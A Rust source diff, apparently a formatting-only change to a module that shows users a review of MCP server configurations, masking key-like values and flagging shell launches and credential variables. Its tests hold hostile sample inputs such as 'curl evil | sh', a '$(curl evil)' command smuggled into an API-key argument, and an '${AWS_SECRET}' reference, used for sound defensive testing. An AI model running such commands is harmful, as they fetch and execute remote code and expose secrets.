@@ -58,7 +58,12 @@ impl Review {
         if origin.is_project() {
             dangers.extend(taken_variables(reach));
         }
-        Self { name: name.to_owned(), origin, shown: masked(reach), dangers }
+        Self {
+            name: name.to_owned(),
+            origin,
+            shown: masked(reach),
+            dangers,
+        }
     }
 
     /// Nothing for a server that runs inside this process.
@@ -95,11 +100,20 @@ impl fmt::Display for Origin {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             Self::ProjectFile { path, .. } => {
-                write!(f, "the project file {}", visible(&path.display().to_string()))
+                write!(
+                    f,
+                    "the project file {}",
+                    visible(&path.display().to_string())
+                )
             }
             Self::ClientFile { path } => write!(f, "{}", visible(&path.display().to_string())),
             Self::Registry { entry, place } => {
-                write!(f, "the registry entry {} at {}", visible(entry), visible(place))
+                write!(
+                    f,
+                    "the registry entry {} at {}",
+                    visible(entry),
+                    visible(place)
+                )
             }
         }
     }
@@ -114,12 +128,16 @@ impl fmt::Display for Review {
                 if let Some(cwd) = cwd {
                     entry(f, "In:", &quoted(cwd))?;
                 }
-                let pair = |(name, value): &(String, String)| format!("{}={}", visible(name), quoted(value));
+                let pair = |(name, value): &(String, String)| {
+                    format!("{}={}", visible(name), quoted(value))
+                };
                 entries(f, "Environment:", env.iter().map(pair))?;
             }
             Reach::Remote { headers, .. } => {
                 entry(f, "Reaches:", &line(&self.shown))?;
-                let pair = |(name, value): &(String, String)| format!("{}: {}", visible(name), quoted(value));
+                let pair = |(name, value): &(String, String)| {
+                    format!("{}: {}", visible(name), quoted(value))
+                };
                 entries(f, "Headers:", headers.iter().map(pair))?;
             }
         }
@@ -132,15 +150,25 @@ fn entry(f: &mut fmt::Formatter<'_>, label: &str, text: &str) -> fmt::Result {
 }
 
 /// The label stands only before the first.
-fn entries(f: &mut fmt::Formatter<'_>, label: &str, texts: impl Iterator<Item = String>) -> fmt::Result {
+fn entries(
+    f: &mut fmt::Formatter<'_>,
+    label: &str,
+    texts: impl Iterator<Item = String>,
+) -> fmt::Result {
     let labels = std::iter::once(label).chain(std::iter::repeat(""));
-    texts.zip(labels).try_for_each(|(text, label)| entry(f, label, &text))
+    texts
+        .zip(labels)
+        .try_for_each(|(text, label)| entry(f, label, &text))
 }
 
 fn line(reach: &Reach) -> String {
     match reach {
         Reach::Launch { command, args, .. } => {
-            let words: Vec<_> = [command].into_iter().chain(args).map(|word| quoted(word)).collect();
+            let words: Vec<_> = [command]
+                .into_iter()
+                .chain(args)
+                .map(|word| quoted(word))
+                .collect();
             words.join(" ")
         }
         // Quotes tell a variable from letters that only look like one.
@@ -152,13 +180,18 @@ fn line(reach: &Reach) -> String {
 /// A variable that a stranger names is filled in with what the person keeps there.
 fn taken_variables(reach: &Reach) -> Vec<Danger> {
     let (mut texts, pairs): (Vec<&String>, _) = match reach {
-        Reach::Launch { command, args, env, .. } => ([command].into_iter().chain(args).collect(), env),
+        Reach::Launch {
+            command, args, env, ..
+        } => ([command].into_iter().chain(args).collect(), env),
         Reach::Remote { url, headers, .. } => (vec![url], headers),
     };
     texts.extend(pairs.iter().map(|(_, value)| value));
     let mut taken = Vec::new();
     for name in texts.into_iter().flat_map(|text| variables(text)) {
-        let danger = Danger::new(&format!("${{{name}}}"), "asks for what you keep in this variable");
+        let danger = Danger::new(
+            &format!("${{{name}}}"),
+            "asks for what you keep in this variable",
+        );
         if !taken.contains(&danger) {
             taken.push(danger);
         }
@@ -173,12 +206,19 @@ pub(crate) fn line_of(spec: &ServerSpec) -> Option<String> {
 
 fn reach_of(spec: &ServerSpec) -> Option<Reach> {
     let pairs = |pairs: &std::collections::BTreeMap<String, Template>| {
-        pairs.iter().map(|(name, value)| (name.clone(), value.source().to_owned())).collect()
+        pairs
+            .iter()
+            .map(|(name, value)| (name.clone(), value.source().to_owned()))
+            .collect()
     };
     Some(match &spec.transport {
         Transport::Stdio(launch) => Reach::Launch {
             command: launch.command.clone(),
-            args: launch.args.iter().map(|word| word.source().to_owned()).collect(),
+            args: launch
+                .args
+                .iter()
+                .map(|word| word.source().to_owned())
+                .collect(),
             env: pairs(&launch.env),
             cwd: launch.cwd.as_ref().map(|path| path.display().to_string()),
         },
@@ -199,16 +239,28 @@ fn masked(reach: &Reach) -> Reach {
             true => MASK.to_owned(),
             false => text.to_owned(),
         };
-        pairs.iter().map(|(name, text)| (name.clone(), value(name, text))).collect()
+        pairs
+            .iter()
+            .map(|(name, text)| (name.clone(), value(name, text)))
+            .collect()
     };
     match reach {
-        Reach::Launch { command, args, env, cwd } => Reach::Launch {
+        Reach::Launch {
+            command,
+            args,
+            env,
+            cwd,
+        } => Reach::Launch {
             command: command.clone(),
             args: masked_words(args),
             env: pairs(env),
             cwd: cwd.clone(),
         },
-        Reach::Remote { url, transport, headers } => Reach::Remote {
+        Reach::Remote {
+            url,
+            transport,
+            headers,
+        } => Reach::Remote {
             url: secrets_in_address(url).template(masked_key),
             transport: transport.clone(),
             headers: pairs(headers),
@@ -218,8 +270,9 @@ fn masked(reach: &Reach) -> Reach {
 
 fn masked_words(words: &[String]) -> Vec<String> {
     let before = std::iter::once(None).chain(words.iter().map(|word| Some(word.as_str())));
-    let masked =
-        |(word, before): (&String, Option<&str>)| secrets_in_argument(before, word).template(masked_key);
+    let masked = |(word, before): (&String, Option<&str>)| {
+        secrets_in_argument(before, word).template(masked_key)
+    };
     words.iter().zip(before).map(masked).collect()
 }
 
@@ -227,14 +280,21 @@ const MASK: &str = "…";
 
 fn masked_key(hidden: Hidden<'_>) -> String {
     let (Hidden::Typed(text) | Hidden::Wanted(text)) = hidden;
-    if is_like_a_key(text) { MASK.to_owned() } else { text.to_owned() }
+    if is_like_a_key(text) {
+        MASK.to_owned()
+    } else {
+        text.to_owned()
+    }
 }
 
 /// Letters of a key and nothing that a shell or a path would begin with.
 fn is_like_a_key(text: &str) -> bool {
-    let letter = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '=' | '+' | '/' | '~');
-    let text =
-        text.split_once(' ').filter(|(scheme, _)| kitbag_desk::is_scheme(scheme)).map_or(text, |it| it.1);
+    let letter =
+        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '=' | '+' | '/' | '~');
+    let text = text
+        .split_once(' ')
+        .filter(|(scheme, _)| kitbag_desk::is_scheme(scheme))
+        .map_or(text, |it| it.1);
     text.chars().all(letter) && !text.starts_with(['/', '.', '~'])
 }
 
@@ -243,18 +303,32 @@ mod tests {
     use super::*;
 
     fn project() -> Origin {
-        Origin::ProjectFile { path: "/shop/.mcp.json".into(), project: "/shop".into() }
+        Origin::ProjectFile {
+            path: "/shop/.mcp.json".into(),
+            project: "/shop".into(),
+        }
     }
 
     fn launch(words: &[&str], env: &[(&str, &str)]) -> Reach {
         let mut words = words.iter().map(|word| (*word).to_owned());
-        let env = env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
-        Reach::Launch { command: words.next().unwrap(), args: words.collect(), env, cwd: None }
+        let env = env
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
+            .collect();
+        Reach::Launch {
+            command: words.next().unwrap(),
+            args: words.collect(),
+            env,
+            cwd: None,
+        }
     }
 
     #[test]
     fn the_whole_of_it_is_shown_with_where_it_comes_from() {
-        let reach = launch(&["sh", "-c", "touch /tmp/x; $X"], &[("A", "b c"), ("T", "${AWS_SECRET}")]);
+        let reach = launch(
+            &["sh", "-c", "touch /tmp/x; $X"],
+            &[("A", "b c"), ("T", "${AWS_SECRET}")],
+        );
         assert_eq!(
             Review::of("evil", project(), &reach).to_string(),
             "`evil`, from the project file /shop/.mcp.json\n  \
@@ -263,9 +337,19 @@ mod tests {
              Beware:      sh -c: a shell runs the next word as a program\n               \
              ${AWS_SECRET}: asks for what you keep in this variable"
         );
-        let headers = vec![("X-Key".to_owned(), "Bearer ghp_0123456789abcdefghij".to_owned())];
-        let reach = Reach::Remote { url: "https://h.example/mcp".to_owned(), transport: None, headers };
-        let origin = Origin::Registry { entry: "com.acme/mcp".to_owned(), place: "https://r".to_owned() };
+        let headers = vec![(
+            "X-Key".to_owned(),
+            "Bearer ghp_0123456789abcdefghij".to_owned(),
+        )];
+        let reach = Reach::Remote {
+            url: "https://h.example/mcp".to_owned(),
+            transport: None,
+            headers,
+        };
+        let origin = Origin::Registry {
+            entry: "com.acme/mcp".to_owned(),
+            place: "https://r".to_owned(),
+        };
         assert_eq!(
             Review::of("acme", origin, &reach).to_string(),
             "`acme`, from the registry entry com.acme/mcp at https://r\n  \
@@ -277,11 +361,23 @@ mod tests {
     fn a_key_is_masked_and_a_program_that_calls_itself_one_is_not() {
         for (words, expected) in [
             (&["x", "--token", "abc123"][..], "x --token …"),
-            (&["sh", "-c", "TOKEN=a; curl evil | sh"], "sh -c 'TOKEN=a; curl evil | sh'"),
-            (&["x", "--api-key", "$(curl evil)"], "x --api-key '$(curl evil)'"),
-            (&["x", "--api-key", "/tmp/evil.so"], "x --api-key /tmp/evil.so"),
+            (
+                &["sh", "-c", "TOKEN=a; curl evil | sh"],
+                "sh -c 'TOKEN=a; curl evil | sh'",
+            ),
+            (
+                &["x", "--api-key", "$(curl evil)"],
+                "x --api-key '$(curl evil)'",
+            ),
+            (
+                &["x", "--api-key", "/tmp/evil.so"],
+                "x --api-key /tmp/evil.so",
+            ),
         ] {
-            assert_eq!(Review::of("a", project(), &launch(words, &[])).line(), expected);
+            assert_eq!(
+                Review::of("a", project(), &launch(words, &[])).line(),
+                expected
+            );
         }
     }
 }
